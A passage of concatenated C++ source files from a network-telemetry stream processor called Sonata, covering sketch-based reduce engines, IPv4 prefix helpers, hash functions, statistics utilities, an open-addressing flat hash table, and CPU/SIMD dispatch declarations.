// --- SketchReduce -----------------------------------------------------------

SketchReduce::SketchReduce(const query::StateSpec& spec, query::ReduceFn fn)
    : fn_(fn), eps_(spec.eps) {
  // Count-sketch is a sum estimator; any other fold falls back to
  // count-min (monotone merges with identity 0).
  if (spec.family == query::StateSpec::Family::kCountSketch && fn == query::ReduceFn::kSum) {
    cs_ = std::make_unique<CountSketch>(spec.eps, spec.delta);
  } else {
    cm_ = std::make_unique<CountMinSketch>(spec.eps, spec.delta);
  }
  heavy_.resize(heavy_slots_for(spec.eps));
  hmask_ = heavy_.size() - 1;
}

std::uint64_t SketchReduce::estimate(std::uint64_t hash) const {
  return cs_ ? cs_->estimate(hash) : cm_->estimate(hash, fn_);
}

void SketchReduce::update(const query::Tuple& key, std::uint64_t hash, std::uint64_t delta) {
  weight_ += delta;
  if (cs_) {
    cs_->update(hash, delta);
  } else {
    cm_->update(hash, delta, fn_);
  }
  const std::uint64_t est = estimate(hash);

  // Two candidate slots from disjoint bit ranges of the key hash; the
  // occupant with the smaller last-touched estimate is the eviction victim.
  Slot& s1 = heavy_[hash & hmask_];
  Slot& s2 = heavy_[(hash >> 21) & hmask_];
  for (Slot* s : {&s1, &s2}) {
    if (s->occupied && s->hash == hash && s->key == key) {
      s->est = est;
      return;
    }
  }
  for (Slot* s : {&s1, &s2}) {
    if (!s->occupied) {
      s->occupied = true;
      s->hash = hash;
      s->est = est;
      s->key = key;
      ++occupied_;
      return;
    }
  }
  Slot& victim = s1.est <= s2.est ? s1 : s2;
  if (est > victim.est) {
    victim.hash = hash;
    victim.est = est;
    victim.key = key;
  }
}

void SketchReduce::clear() {
  if (cs_) {
    cs_->clear();
  } else {
    cm_->clear();
  }
  for (Slot& s : heavy_) {
    if (!s.occupied) continue;
    s.occupied = false;
    s.hash = 0;
    s.est = 0;
    s.key = query::Tuple{};
  }
  occupied_ = 0;
  weight_ = 0;
}

std::uint64_t SketchReduce::bytes() const noexcept {
  const std::uint64_t sketch_bytes = cs_ ? cs_->bytes() : cm_->bytes();
  return sketch_bytes + heavy_.capacity() * sizeof(Slot);
}

// --- DistinctEngine ---------------------------------------------------------

void DistinctEngine::configure(const query::StateSpec& spec) {
  sketch_ = spec.sketch();
  bloom_.reset();
  cuckoo_.reset();
  sketch_entries_ = 0;
  eps_ = 0.0;
  if (!sketch_) return;
  eps_ = spec.eps;
  if (spec.membership == query::StateSpec::Membership::kBloom) {
    bloom_ = std::make_unique<BloomFilter>(spec.capacity, spec.eps);
  } else {
    cuckoo_ = std::make_unique<CuckooFilter>(spec.capacity, spec.eps);
  }
}

StateUsage DistinctEngine::usage() const {
  StateUsage u;
  if (!sketch_) {
    u.entries = exact_.size();
    u.bytes = exact_.memory_bytes();
    return u;
  }
  u.entries = sketch_entries_;
  u.bytes = bloom_ ? bloom_->bytes() : cuckoo_->bytes();
  u.error_bound = eps_;
  return u;
}

// --- ReduceEngine -----------------------------------------------------------

void ReduceEngine::configure(const query::StateSpec& spec, query::ReduceFn fn) {
  fn_ = fn;
  // kMin cannot ride a zero-initialized counter sketch; stay exact.
  sketch_.reset();
  if (spec.sketch() && fn != query::ReduceFn::kMin) {
    sketch_ = std::make_unique<SketchReduce>(spec, fn);
  }
}

StateUsage ReduceEngine::usage() const {
  StateUsage u;
  if (!sketch_) {
    u.entries = exact_.size();
    u.bytes = exact_.memory_bytes();
    return u;
  }
  u.entries = sketch_->entries();
  u.bytes = sketch_->bytes();
  u.error_bound = sketch_->eps() * static_cast<double>(sketch_->total_weight());
  return u;
}

}  // namespace sonata::state
