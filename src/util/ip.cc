#include "util/ip.h"

#include <charconv>
#include <cstdio>

namespace sonata::util {

std::string ipv4_to_string(std::uint32_t addr) {
  char buf[16];
  const int n = std::snprintf(buf, sizeof buf, "%u.%u.%u.%u", (addr >> 24) & 0xff,
                              (addr >> 16) & 0xff, (addr >> 8) & 0xff, addr & 0xff);
  return std::string(buf, static_cast<std::size_t>(n));
}

std::optional<std::uint32_t> ipv4_from_string(std::string_view text) {
  std::uint32_t addr = 0;
  const char* p = text.data();
  const char* end = text.data() + text.size();
  for (int octet = 0; octet < 4; ++octet) {
    unsigned value = 0;
    const auto [next, ec] = std::from_chars(p, end, value);
    if (ec != std::errc{} || value > 255 || next == p) return std::nullopt;
    addr = (addr << 8) | value;
    p = next;
    if (octet < 3) {
      if (p == end || *p != '.') return std::nullopt;
      ++p;
    }
  }
  if (p != end) return std::nullopt;
  return addr;
}

}  // namespace sonata::util
