#include "util/rng.h"

#include <algorithm>
#include <cassert>

namespace sonata::util {

ZipfSampler::ZipfSampler(std::size_t n, double s) {
  assert(n > 0);
  cdf_.resize(n);
  double total = 0.0;
  for (std::size_t i = 0; i < n; ++i) {
    total += 1.0 / std::pow(static_cast<double>(i + 1), s);
    cdf_[i] = total;
  }
  for (auto& c : cdf_) c /= total;
}

std::size_t ZipfSampler::operator()(Rng& rng) const noexcept {
  const double u = rng.uniform01();
  const auto it = std::lower_bound(cdf_.begin(), cdf_.end(), u);
  return static_cast<std::size_t>(it == cdf_.end() ? cdf_.size() - 1 : it - cdf_.begin());
}

}  // namespace sonata::util
