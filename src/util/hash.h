// Hash functions used throughout Sonata.
//
// The PISA register arrays need a *family* of independent hash functions so
// that a key colliding in register i has an independent chance of finding a
// free slot in register i+1 (paper §3.1.3).  HashFamily provides d seeded,
// pairwise-independent-in-practice 64-bit hashes.
#pragma once

#include <cstddef>
#include <cstdint>
#include <span>
#include <string_view>

namespace sonata::util {

// 64-bit FNV-1a over a byte range. Stable across platforms and runs.
[[nodiscard]] constexpr std::uint64_t fnv1a64(std::span<const std::byte> data,
                                              std::uint64_t seed = 0xcbf29ce484222325ULL) noexcept {
  std::uint64_t h = seed;
  for (std::byte b : data) {
    h ^= static_cast<std::uint64_t>(b);
    h *= 0x100000001b3ULL;
  }
  return h;
}

[[nodiscard]] std::uint64_t fnv1a64(std::string_view s, std::uint64_t seed = 0xcbf29ce484222325ULL) noexcept;

// Strong 64-bit finalizer (splitmix64 / murmur3 fmix style). Used to derive
// independent hash functions from a single base hash plus a seed.
[[nodiscard]] constexpr std::uint64_t mix64(std::uint64_t x) noexcept {
  x ^= x >> 30;
  x *= 0xbf58476d1ce4e5b9ULL;
  x ^= x >> 27;
  x *= 0x94d049bb133111ebULL;
  x ^= x >> 31;
  return x;
}

// Hash a 64-bit key with a given seed; different seeds give (empirically)
// independent functions.
[[nodiscard]] constexpr std::uint64_t hash_u64(std::uint64_t key, std::uint64_t seed) noexcept {
  return mix64(key + 0x9e3779b97f4a7c15ULL * (seed + 1));
}

// --- Batched lane-pass hashing (AVX2 with scalar fallback) --------------
//
// The vector kernels are bit-identical to the scalar functions above: the
// mix is pure 64-bit integer arithmetic, so an 8-lane pass computes the
// exact same words a scalar loop would. Dispatch is runtime (util::
// avx2_enabled() — one cached relaxed load), so `SONATA_NO_AVX2=1` or the
// test override flips every caller to the scalar loop without rebuild.

// out[i] = hash_u64(keys[i], seed) for i in [0, n). Hashes 8 keys per
// lane-pass under AVX2; any tail (n % 8) runs scalar.
void hash_u64_batch(const std::uint64_t* keys, std::size_t n, std::uint64_t seed,
                    std::uint64_t* out) noexcept;

// acc[i] = hash_combine(acc[i], b[i]) for i in [0, n), vectorized the same
// way. This is the per-column step of batched tuple hashing.
void hash_combine_batch(std::uint64_t* acc, const std::uint64_t* b, std::size_t n) noexcept;

// A family of `size()` hash functions over 64-bit keys, as required by the
// d-register collision-mitigation chain.
class HashFamily {
 public:
  explicit HashFamily(std::size_t count, std::uint64_t base_seed = 0x5eed5eed5eed5eedULL);

  [[nodiscard]] std::size_t size() const noexcept { return seeds_size_; }

  // Hash `key` with the i-th member of the family.
  [[nodiscard]] std::uint64_t operator()(std::size_t i, std::uint64_t key) const noexcept {
    return hash_u64(key, seeds_[i]);
  }

  // Hash reduced to an index in [0, buckets).
  [[nodiscard]] std::size_t index(std::size_t i, std::uint64_t key, std::size_t buckets) const noexcept {
    return static_cast<std::size_t>((*this)(i, key) % buckets);
  }

  // All `size()` member hashes of one key in one call — the d-way register
  // probe starts from precomputed lane hashes instead of hashing once per
  // depth. `out` must hold size() words. Vectorized for depth >= 4.
  void hash_all(std::uint64_t key, std::uint64_t* out) const noexcept;

  // Upper bound on size(); lets callers keep hash_all lane buffers on the
  // stack.
  static constexpr std::size_t kMaxFamily = 16;

 private:
  std::uint64_t seeds_[kMaxFamily];
  std::size_t seeds_size_;
};

// Combine two hashes (boost-style) for composite keys.
[[nodiscard]] constexpr std::uint64_t hash_combine(std::uint64_t a, std::uint64_t b) noexcept {
  return mix64(a ^ (b + 0x9e3779b97f4a7c15ULL + (a << 6) + (a >> 2)));
}

}  // namespace sonata::util
