// IPv4 address helpers: textual conversion and the prefix arithmetic that
// dynamic refinement relies on (dIP/8, dIP/16, ... are refinement levels).
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>

namespace sonata::util {

// Mask keeping the top `prefix_len` bits of an IPv4 address (host byte order).
// prefix_len == 0 maps every address to 0 (the "*" coarsest level).
[[nodiscard]] constexpr std::uint32_t ipv4_prefix(std::uint32_t addr, int prefix_len) noexcept {
  if (prefix_len <= 0) return 0;
  if (prefix_len >= 32) return addr;
  return addr & ~((1u << (32 - prefix_len)) - 1u);
}

[[nodiscard]] constexpr std::uint32_t ipv4_mask(int prefix_len) noexcept {
  if (prefix_len <= 0) return 0;
  if (prefix_len >= 32) return 0xffffffffu;
  return ~((1u << (32 - prefix_len)) - 1u);
}

// True if `addr` falls inside `prefix`/`prefix_len`.
[[nodiscard]] constexpr bool ipv4_in_prefix(std::uint32_t addr, std::uint32_t prefix,
                                            int prefix_len) noexcept {
  return ipv4_prefix(addr, prefix_len) == ipv4_prefix(prefix, prefix_len);
}

// "a.b.c.d" formatting / parsing (host byte order).
[[nodiscard]] std::string ipv4_to_string(std::uint32_t addr);
[[nodiscard]] std::optional<std::uint32_t> ipv4_from_string(std::string_view text);

// Convenience: build an address from dotted octets.
[[nodiscard]] constexpr std::uint32_t ipv4(std::uint32_t a, std::uint32_t b, std::uint32_t c,
                                           std::uint32_t d) noexcept {
  return (a << 24) | (b << 16) | (c << 8) | d;
}

}  // namespace sonata::util
