#include "util/stats.h"

#include <algorithm>
#include <cmath>

namespace sonata::util {

double median(std::span<const double> xs) {
  if (xs.empty()) return 0.0;
  std::vector<double> v(xs.begin(), xs.end());
  const std::size_t mid = v.size() / 2;
  std::nth_element(v.begin(), v.begin() + static_cast<std::ptrdiff_t>(mid), v.end());
  const double hi = v[mid];
  if (v.size() % 2 == 1) return hi;
  const double lo = *std::max_element(v.begin(), v.begin() + static_cast<std::ptrdiff_t>(mid));
  return (lo + hi) / 2.0;
}

std::uint64_t median_u64(std::span<const std::uint64_t> xs) {
  if (xs.empty()) return 0;
  std::vector<std::uint64_t> v(xs.begin(), xs.end());
  const std::size_t mid = v.size() / 2;
  std::nth_element(v.begin(), v.begin() + static_cast<std::ptrdiff_t>(mid), v.end());
  const std::uint64_t hi = v[mid];
  if (v.size() % 2 == 1) return hi;
  const std::uint64_t lo = *std::max_element(v.begin(), v.begin() + static_cast<std::ptrdiff_t>(mid));
  return (lo + hi) / 2;  // truncation is fine for packet counts
}

double quantile(std::span<const double> xs, double q) {
  if (xs.empty()) return 0.0;
  std::vector<double> v(xs.begin(), xs.end());
  std::sort(v.begin(), v.end());
  q = std::clamp(q, 0.0, 1.0);
  const double pos = q * static_cast<double>(v.size() - 1);
  const auto lo = static_cast<std::size_t>(pos);
  const std::size_t hi = std::min(lo + 1, v.size() - 1);
  const double frac = pos - static_cast<double>(lo);
  return v[lo] * (1.0 - frac) + v[hi] * frac;
}

void Accumulator::add(double x) noexcept {
  if (n_ == 0) {
    min_ = max_ = x;
  } else {
    min_ = std::min(min_, x);
    max_ = std::max(max_, x);
  }
  ++n_;
  const double delta = x - mean_;
  mean_ += delta / static_cast<double>(n_);
  m2_ += delta * (x - mean_);
}

double Accumulator::variance() const noexcept {
  return n_ > 1 ? m2_ / static_cast<double>(n_ - 1) : 0.0;
}

double Accumulator::stddev() const noexcept { return std::sqrt(variance()); }

}  // namespace sonata::util
