// Flat open-addressing keyed state for the stream processor.
//
// Every SP-side keyed structure — reduce maps, distinct sets, filter-in
// tables, hash-join builds — used to sit on node-based std::unordered_map:
// one heap allocation per key, the tuple hash recomputed on every probe,
// and the bucket array torn down and regrown every window. This table is
// the flat replacement, shaped like the d-way RegisterChain on the switch
// side (pisa/register.h): keyed telemetry state wants contiguous,
// cache-resident, allocation-free storage.
//
// Layout. Entries live in one dense vector in INSERTION ORDER; the index
// over them is a power-of-two slot array split into 8-slot chunks, each
// chunk described by 8 one-byte control words (h2 = low 7 hash bits, or
// empty/tombstone). A probe loads a chunk's control bytes as one u64 and
// SWAR-matches all 8 at once; candidates then compare the cached 64-bit
// hash before ever touching the key, so full Tuple equality runs ~once per
// successful lookup. Chunks are probed in a triangular sequence, which
// visits every chunk exactly once when the chunk count is a power of two.
//
// Windows. State here is per-window by construction: clear() wipes the
// control bytes and the dense array but keeps both capacities, so a warm
// table absorbs an entire window with ZERO allocations. Rehashes rebuild
// only the index — the dense entries never move.
//
// Determinism. Drain order is the dense array's insertion order, which the
// deterministic window-barrier merge makes identical across batch sizes
// and thread counts — window outputs stay bit-identical regardless of
// probe-order or capacity differences (DESIGN.md "Keyed-state engines").
#pragma once

#include <bit>
#include <cassert>
#include <cstddef>
#include <cstdint>
#include <cstring>
#include <span>
#include <utility>
#include <vector>

#include "query/tuple.h"
#include "util/arena.h"

namespace sonata::util {

namespace flat_detail {

inline constexpr std::uint8_t kCtrlEmpty = 0x80;    // never stored by full slots
inline constexpr std::uint8_t kCtrlDeleted = 0xFE;  // tombstone
inline constexpr std::uint64_t kLsb = 0x0101010101010101ULL;
inline constexpr std::uint64_t kMsb = 0x8080808080808080ULL;

[[nodiscard]] inline std::uint64_t load_chunk(const std::uint8_t* p) noexcept {
  std::uint64_t v;
  std::memcpy(&v, p, sizeof v);
  return v;
}

// Bitmask with 0x80 set in every lane whose byte equals `b` (exact: the
// zero-byte detector has no false positives for the control alphabet).
[[nodiscard]] inline std::uint64_t match_byte(std::uint64_t chunk, std::uint8_t b) noexcept {
  const std::uint64_t x = chunk ^ (kLsb * b);
  return (x - kLsb) & ~x & kMsb;
}

// Lane index of the lowest set match bit. Lane order follows byte order in
// memory on little-endian targets (everything we build for); a big-endian
// port would walk bytes scalar instead.
static_assert(std::endian::native == std::endian::little,
              "flat_table SWAR probing assumes little-endian control loads");
[[nodiscard]] inline std::size_t first_lane(std::uint64_t mask) noexcept {
  return static_cast<std::size_t>(std::countr_zero(mask)) / 8;
}

[[nodiscard]] inline std::size_t ceil_pow2(std::size_t n) noexcept {
  return std::size_t{1} << std::bit_width(n - 1);
}

}  // namespace flat_detail

// Open-addressing hash table over query::Tuple keys carrying a payload V.
// Single-writer, like every per-window structure on the SP side.
template <typename V>
class FlatTable {
 public:
  static constexpr std::size_t kChunk = 8;         // slots per control chunk
  static constexpr std::size_t kMinCapacity = 16;  // two chunks
  // Probe-length tally: index = chunks examined, clamped to kProbeTallyMax.
  static constexpr std::size_t kProbeTallyMax = 8;

  struct Entry {
    std::uint64_t hash = 0;
    query::Tuple key;
    [[no_unique_address]] V value{};
  };

  FlatTable() = default;
  FlatTable(FlatTable&&) noexcept = default;
  FlatTable& operator=(FlatTable&&) noexcept = default;
  FlatTable(const FlatTable&) = delete;
  FlatTable& operator=(const FlatTable&) = delete;

  [[nodiscard]] std::size_t size() const noexcept { return entries_.size(); }
  [[nodiscard]] bool empty() const noexcept { return entries_.empty(); }
  [[nodiscard]] std::size_t capacity() const noexcept { return cap_; }
  // Heap footprint of the table's arrays (control bytes, slot indices,
  // dense entries). Exact keyed-state memory grows with capacity; the obs
  // layer reports this next to the sketch engines' fixed byte counts.
  [[nodiscard]] std::uint64_t memory_bytes() const noexcept {
    return ctrl_.capacity() * sizeof(std::uint8_t) +
           slot_.capacity() * sizeof(std::uint32_t) + entries_.capacity() * sizeof(Entry);
  }
  [[nodiscard]] double load_factor() const noexcept {
    return cap_ == 0 ? 0.0
                     : static_cast<double>(entries_.size()) / static_cast<double>(cap_);
  }

  // Dense entries in insertion order — the deterministic drain. Callers may
  // move keys/values out of mutable entries immediately before clear().
  [[nodiscard]] std::span<const Entry> entries() const noexcept { return entries_; }
  [[nodiscard]] std::span<Entry> entries() noexcept { return entries_; }

  // Forget every entry but keep the slot array and the dense array's
  // capacity: the next window's inserts touch no allocator.
  void clear() noexcept {
    entries_.clear();
    if (cap_ != 0) std::memset(ctrl_.data(), flat_detail::kCtrlEmpty, cap_);
    occupied_ = 0;
  }

  // Pre-size for `n` keys without intermediate rehashes.
  void reserve(std::size_t n) {
    if (n == 0) return;
    const std::size_t want = required_capacity(n);
    if (want > cap_) rebuild(want);
    entries_.reserve(n);
  }

  [[nodiscard]] V* find(const query::Tuple& key, std::uint64_t hash) noexcept {
    const std::size_t idx = find_index(key, hash);
    return idx == kNone ? nullptr : &entries_[idx].value;
  }
  [[nodiscard]] const V* find(const query::Tuple& key, std::uint64_t hash) const noexcept {
    const std::size_t idx = find_index(key, hash);
    return idx == kNone ? nullptr : &entries_[idx].value;
  }
  [[nodiscard]] bool contains(const query::Tuple& key, std::uint64_t hash) const noexcept {
    return find_index(key, hash) != kNone;
  }

  // Insert (key, value) if absent. Returns {payload slot, inserted}. The
  // key is only moved from on actual insertion.
  std::pair<V*, bool> try_emplace(query::Tuple&& key, std::uint64_t hash, V value) {
    const auto [idx, inserted] = insert_slot(key, hash);
    if (inserted) {
      entries_.push_back(Entry{hash, std::move(key), std::move(value)});
    }
    return {&entries_[idx == kAppend ? entries_.size() - 1 : idx].value, inserted};
  }

  // Copying variant: copies the key only when it is actually new.
  std::pair<V*, bool> try_emplace(const query::Tuple& key, std::uint64_t hash, V value) {
    const auto [idx, inserted] = insert_slot(key, hash);
    if (inserted) {
      entries_.push_back(Entry{hash, key, std::move(value)});
    }
    return {&entries_[idx == kAppend ? entries_.size() - 1 : idx].value, inserted};
  }

  // Remove a key. Keeps the dense array gap-free by moving the last entry
  // into the vacated position (drain order of remaining entries is still
  // deterministic; per-window state never erases, only tests do).
  bool erase(const query::Tuple& key, std::uint64_t hash) {
    const std::size_t slot = find_ctrl_slot(key, hash);
    if (slot == kNone) return false;
    const std::uint32_t idx = slot_[slot];
    ctrl_[slot] = flat_detail::kCtrlDeleted;  // occupied_ unchanged: tombstone
    const std::uint32_t last = static_cast<std::uint32_t>(entries_.size()) - 1;
    if (idx != last) {
      const std::size_t moved_slot = find_ctrl_slot(entries_[last].key, entries_[last].hash);
      assert(moved_slot != kNone && slot_[moved_slot] == last);
      entries_[idx] = std::move(entries_[last]);
      slot_[moved_slot] = idx;
    }
    entries_.pop_back();
    return true;
  }

  // Probe-length tally (chunks examined per keyed operation), drained by
  // the owner when it publishes window metrics; draining zeroes the tally.
  [[nodiscard]] std::span<const std::uint64_t> probe_tally() const noexcept {
    return {probe_tally_ + 1, kProbeTallyMax};
  }
  void drain_probe_tally(std::uint64_t out[kProbeTallyMax + 1]) noexcept {
    for (std::size_t i = 0; i <= kProbeTallyMax; ++i) {
      out[i] = probe_tally_[i];
      probe_tally_[i] = 0;
    }
  }

  [[nodiscard]] std::uint64_t rehashes() const noexcept { return rehashes_; }

  // Software-prefetch the first probe chunk for `hash`. Callers that know
  // the next few keys ahead of time (batched ingest with precomputed tuple
  // hashes) overlap the index's cache miss with current work instead of
  // stalling on it inside find/insert.
  void prefetch(std::uint64_t hash) const noexcept {
    if (cap_ == 0) return;
    const std::size_t base = ((hash >> 7) & (num_chunks() - 1)) * kChunk;
    __builtin_prefetch(ctrl_.data() + base);
    __builtin_prefetch(slot_.data() + base);
  }

 private:
  static constexpr std::size_t kNone = static_cast<std::size_t>(-1);
  static constexpr std::size_t kAppend = static_cast<std::size_t>(-2);

  [[nodiscard]] static std::size_t required_capacity(std::size_t n) noexcept {
    // Keep occupancy (full + tombstones) at or below 7/8.
    std::size_t cap = flat_detail::ceil_pow2(n + n / 7 + 1);
    return cap < kMinCapacity ? kMinCapacity : cap;
  }

  [[nodiscard]] std::size_t num_chunks() const noexcept { return cap_ / kChunk; }

  void tally(std::size_t chunks_probed) const noexcept {
    ++probe_tally_[chunks_probed < kProbeTallyMax ? chunks_probed : kProbeTallyMax];
  }

  // Dense-entry index for a present key, kNone otherwise.
  [[nodiscard]] std::size_t find_index(const query::Tuple& key, std::uint64_t hash) const noexcept {
    const std::size_t slot = find_ctrl_slot(key, hash);
    return slot == kNone ? kNone : slot_[slot];
  }

  // Slot-array position of a present key, kNone otherwise.
  [[nodiscard]] std::size_t find_ctrl_slot(const query::Tuple& key,
                                           std::uint64_t hash) const noexcept {
    if (cap_ == 0) {
      tally(1);
      return kNone;
    }
    const std::uint8_t h2 = static_cast<std::uint8_t>(hash & 0x7F);
    const std::size_t chunk_mask = num_chunks() - 1;
    std::size_t chunk = (hash >> 7) & chunk_mask;
    for (std::size_t i = 0;; ++i) {
      const std::size_t base = chunk * kChunk;
      const std::uint64_t group = flat_detail::load_chunk(ctrl_.data() + base);
      // Issue the next triangular chunk's control load now: by the time the
      // SWAR match and key compares below miss, its line is in flight.
      __builtin_prefetch(ctrl_.data() + (((chunk + i + 1) & chunk_mask) * kChunk));
      std::uint64_t match = flat_detail::match_byte(group, h2);
      while (match != 0) {
        const std::size_t lane = flat_detail::first_lane(match);
        const Entry& e = entries_[slot_[base + lane]];
        if (e.hash == hash && e.key == key) {
          tally(i + 1);
          return base + lane;
        }
        match &= match - 1;
      }
      if (flat_detail::match_byte(group, flat_detail::kCtrlEmpty) != 0) {
        tally(i + 1);
        return kNone;  // an empty slot terminates the probe chain
      }
      chunk = (chunk + i + 1) & chunk_mask;  // triangular: +1, +2, +3, ...
    }
  }

  // Find-or-claim: returns {dense index or kAppend, inserted}. On insert
  // the caller must push_back the entry; the claimed slot already points at
  // entries_.size().
  std::pair<std::size_t, bool> insert_slot(const query::Tuple& key, std::uint64_t hash) {
    if (cap_ == 0) rebuild(kMinCapacity);
    const std::uint8_t h2 = static_cast<std::uint8_t>(hash & 0x7F);
    const std::size_t chunk_mask = num_chunks() - 1;
    std::size_t chunk = (hash >> 7) & chunk_mask;
    std::size_t reuse = kNone;  // first tombstone on the probe path
    for (std::size_t i = 0;; ++i) {
      const std::size_t base = chunk * kChunk;
      const std::uint64_t group = flat_detail::load_chunk(ctrl_.data() + base);
      __builtin_prefetch(ctrl_.data() + (((chunk + i + 1) & chunk_mask) * kChunk));
      std::uint64_t match = flat_detail::match_byte(group, h2);
      while (match != 0) {
        const std::size_t lane = flat_detail::first_lane(match);
        const Entry& e = entries_[slot_[base + lane]];
        if (e.hash == hash && e.key == key) {
          tally(i + 1);
          return {slot_[base + lane], false};
        }
        match &= match - 1;
      }
      if (reuse == kNone) {
        const std::uint64_t deleted =
            flat_detail::match_byte(group, flat_detail::kCtrlDeleted);
        if (deleted != 0) reuse = base + flat_detail::first_lane(deleted);
      }
      const std::uint64_t empty = flat_detail::match_byte(group, flat_detail::kCtrlEmpty);
      if (empty != 0) {
        tally(i + 1);
        std::size_t target;
        if (reuse != kNone) {
          target = reuse;  // tombstone reuse: occupancy unchanged
        } else {
          if (occupied_ + 1 > cap_ - cap_ / 8) {
            rebuild(required_capacity(entries_.size() + 1));
            return insert_slot(key, hash);  // fresh index, no tombstones
          }
          target = base + flat_detail::first_lane(empty);
          ++occupied_;
        }
        ctrl_[target] = h2;
        slot_[target] = static_cast<std::uint32_t>(entries_.size());
        return {kAppend, true};
      }
      chunk = (chunk + i + 1) & chunk_mask;
    }
  }

  // Rebuild the index at `new_cap` slots from the dense array. Entries do
  // not move; only ctrl_/slot_ are rewritten.
  void rebuild(std::size_t new_cap) {
    assert(std::has_single_bit(new_cap) && new_cap >= kMinCapacity);
    if (new_cap != cap_) {
      ctrl_.assign(new_cap, flat_detail::kCtrlEmpty);
      slot_.resize(new_cap);
      cap_ = new_cap;
    } else {
      std::memset(ctrl_.data(), flat_detail::kCtrlEmpty, cap_);
    }
    if (cap_ != 0) ++rehashes_;
    occupied_ = entries_.size();
    const std::size_t chunk_mask = num_chunks() - 1;
    for (std::uint32_t idx = 0; idx < entries_.size(); ++idx) {
      const std::uint64_t hash = entries_[idx].hash;
      std::size_t chunk = (hash >> 7) & chunk_mask;
      for (std::size_t i = 0;; ++i) {
        const std::size_t base = chunk * kChunk;
        const std::uint64_t group = flat_detail::load_chunk(ctrl_.data() + base);
        const std::uint64_t empty = flat_detail::match_byte(group, flat_detail::kCtrlEmpty);
        if (empty != 0) {
          const std::size_t target = base + flat_detail::first_lane(empty);
          ctrl_[target] = static_cast<std::uint8_t>(hash & 0x7F);
          slot_[target] = idx;
          break;
        }
        chunk = (chunk + i + 1) & chunk_mask;
      }
    }
  }

  // The index arrays sit in page-aligned arena buffers (huge-page advised
  // once large): they are the per-probe random-access working set, and
  // fewer TLB entries is a direct hot-path win.
  PageBuffer<std::uint8_t> ctrl_;     // cap_ control bytes, chunk-aligned
  PageBuffer<std::uint32_t> slot_;    // cap_ dense-entry indices
  std::vector<Entry> entries_;        // insertion order
  std::size_t cap_ = 0;               // power of two, multiple of kChunk
  std::size_t occupied_ = 0;          // full + tombstoned slots
  std::uint64_t rehashes_ = 0;
  mutable std::uint64_t probe_tally_[kProbeTallyMax + 1] = {};
};

// Map façade: Tuple -> V.
template <typename V>
using FlatMap = FlatTable<V>;

// Set façade over the same core (payload-free entries).
class FlatSet {
 public:
  struct Unit {};
  using Table = FlatTable<Unit>;

  [[nodiscard]] std::size_t size() const noexcept { return t_.size(); }
  [[nodiscard]] bool empty() const noexcept { return t_.empty(); }
  [[nodiscard]] std::size_t capacity() const noexcept { return t_.capacity(); }
  [[nodiscard]] std::uint64_t memory_bytes() const noexcept { return t_.memory_bytes(); }
  [[nodiscard]] double load_factor() const noexcept { return t_.load_factor(); }
  void clear() noexcept { t_.clear(); }
  void reserve(std::size_t n) { t_.reserve(n); }

  bool insert(query::Tuple&& key, std::uint64_t hash) {
    return t_.try_emplace(std::move(key), hash, Unit{}).second;
  }
  bool insert(const query::Tuple& key, std::uint64_t hash) {
    return t_.try_emplace(key, hash, Unit{}).second;
  }
  bool insert(query::Tuple&& key) {
    const std::uint64_t h = key.hash();
    return insert(std::move(key), h);
  }
  bool insert(const query::Tuple& key) { return insert(key, key.hash()); }

  [[nodiscard]] bool contains(const query::Tuple& key, std::uint64_t hash) const noexcept {
    return t_.contains(key, hash);
  }
  [[nodiscard]] bool contains(const query::Tuple& key) const noexcept {
    return t_.contains(key, key.hash());
  }
  bool erase(const query::Tuple& key, std::uint64_t hash) { return t_.erase(key, hash); }

  [[nodiscard]] std::span<const Table::Entry> entries() const noexcept { return t_.entries(); }
  [[nodiscard]] Table& table() noexcept { return t_; }
  [[nodiscard]] const Table& table() const noexcept { return t_; }

 private:
  Table t_;
};

}  // namespace sonata::util
