// CPU topology and SIMD feature dispatch for the vectorized data path.
//
// Everything here is decided once per process (or re-decided under test
// control) so the hot paths pay a single relaxed load — never a cpuid, an
// getenv, or a syscall. Three concerns live together because they answer
// the same question — "what does this machine actually give us?":
//
//  * SIMD level: AVX2 is used only when the CPU reports it AND the
//    `SONATA_NO_AVX2` environment override is not set. Every vector kernel
//    in the tree keeps a guarded scalar fallback that is bit-identical by
//    construction, so flipping the override must never change results —
//    the SIMD differential suite asserts exactly that.
//  * Core inventory: `available_cores()` honours the process affinity mask
//    (sched_getaffinity), not the raw hardware_concurrency() — a container
//    pinned to one core must report 1, and every BENCH_*.json records the
//    honest number so trajectories compare across machines.
//  * Placement: `pin_thread_to_core()` pins a worker to one allowed core
//    (NUMA-locality falls out on multi-socket boxes because consecutive
//    workers land on consecutive cores of the same node first), and
//    `numa_node_of_core()` reports the node for observability.
#pragma once

#include <cstddef>
#include <cstdint>
#include <string>
#include <vector>

namespace sonata::util {

// True when the AVX2 kernels are active: CPU support present and the
// SONATA_NO_AVX2 override unset. Cached after the first call.
[[nodiscard]] bool avx2_enabled() noexcept;

// Human-readable dispatch level for bench output: "avx2" or "scalar".
[[nodiscard]] const char* simd_level() noexcept;

// Test hook: force the dispatch decision (true = AVX2 if the CPU has it,
// false = scalar) and invalidate the cache so the next avx2_enabled() call
// re-evaluates. The differential tests flip this to run both paths in one
// process. Passing `reset_to_env = true` restores environment-driven
// behaviour.
void force_scalar_for_test(bool force_scalar, bool reset_to_env = false);

// Number of cores this process may actually run on (the affinity mask
// cardinality), falling back to hardware_concurrency when the mask is
// unreadable. Never returns 0.
[[nodiscard]] std::size_t available_cores() noexcept;

// The allowed core ids, ascending (empty if unreadable).
[[nodiscard]] const std::vector<int>& allowed_cores() noexcept;

// Pin the calling thread to the worker_index-th allowed core (round-robin
// over the affinity mask). Returns the core id on success, -1 on failure
// or when pinning is pointless (a single allowed core already implies it).
int pin_thread_to_core(std::size_t worker_index) noexcept;

// Best-effort NUMA node of a core (reads /sys); -1 when unknown. Linux
// only; other platforms always report -1.
[[nodiscard]] int numa_node_of_core(int core) noexcept;

// Advise the kernel to back [ptr, ptr+len) with transparent huge pages
// (madvise MADV_HUGEPAGE). Best-effort: returns false when unsupported or
// refused, and the caller proceeds with 4 KiB pages unchanged. `ptr` need
// not be page-aligned; the advised range is widened to page boundaries.
bool advise_huge_pages(void* ptr, std::size_t len) noexcept;

}  // namespace sonata::util
