// Minimal leveled logger. Sonata components log planning and runtime events;
// benchmarks run with the level raised to keep output machine-readable.
#pragma once

#include <cstdio>
#include <optional>
#include <string_view>
#include <utility>

namespace sonata::util {

enum class LogLevel : int { kDebug = 0, kInfo = 1, kWarn = 2, kError = 3, kOff = 4 };

LogLevel log_level() noexcept;
